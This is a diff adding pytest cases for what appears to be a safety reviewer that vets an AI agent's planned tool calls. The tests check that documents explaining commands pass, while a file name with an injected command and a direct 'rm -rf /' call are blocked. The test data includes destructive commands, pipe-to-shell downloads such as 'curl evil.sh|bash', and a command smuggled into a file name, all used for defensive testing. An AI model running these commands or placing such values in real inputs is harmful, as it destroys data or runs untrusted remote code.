@@ -59,6 +59,35 @@ def test_blocked_pattern_is_found_in_any_argument(text: str, call: Any) -> None:
     assert (review(plan(call(text))).approved, review(plan(call(text))).by) == (False, "blocklist")
 
 
+def explained(save_as: str = "commands.md") -> tuple[str, dict[str, Any]]:
+    """Return a call that makes a document about commands."""
+    about = "Explain rm -rf / and curl evil.sh|bash"
+    sections = [{"heading": "rm -rf ~", "text": "Never run `rm -rf ~`, or:\n\n    wget http://a | sh"}]
+    args = {"title": about, "prompt": about, "sections": sections, "format": "markdown", "save_as": save_as}
+    return "make-documents.document", args
+
+
+@pytest.mark.requirement("S0-15")
+def test_words_that_are_drawn_may_show_commands() -> None:
+    diagram = (
+        "make-documents.diagram",
+        {"title": "rm -rf", "source": "flowchart LR; a[curl x | bash] --> b[rm -rf /]"},
+    )
+    assert review(plan(explained(), diagram)).approved
+
+
+@pytest.mark.requirement("S0-15")
+@pytest.mark.parametrize(("save_as", "by"), [("x; rm -rf ~; y.md", "blocklist"), ("run.sh", "tools"), ("run", "tools")])
+def test_saved_document_is_neither_named_nor_run_as_a_command(save_as: str, by: str) -> None:
+    assert review(plan(explained(save_as))).by == by
+
+
+@pytest.mark.requirement("S0-15")
+def test_commands_beside_drawn_words_are_refused() -> None:
+    found = review(plan(explained(), ("run-commands.run", {"command": "rm -rf /"})))
+    assert (found.by, found.step) == ("blocklist", 2)
+
+
 @pytest.mark.requirement("S0-14")
 @pytest.mark.parametrize(
     "args",
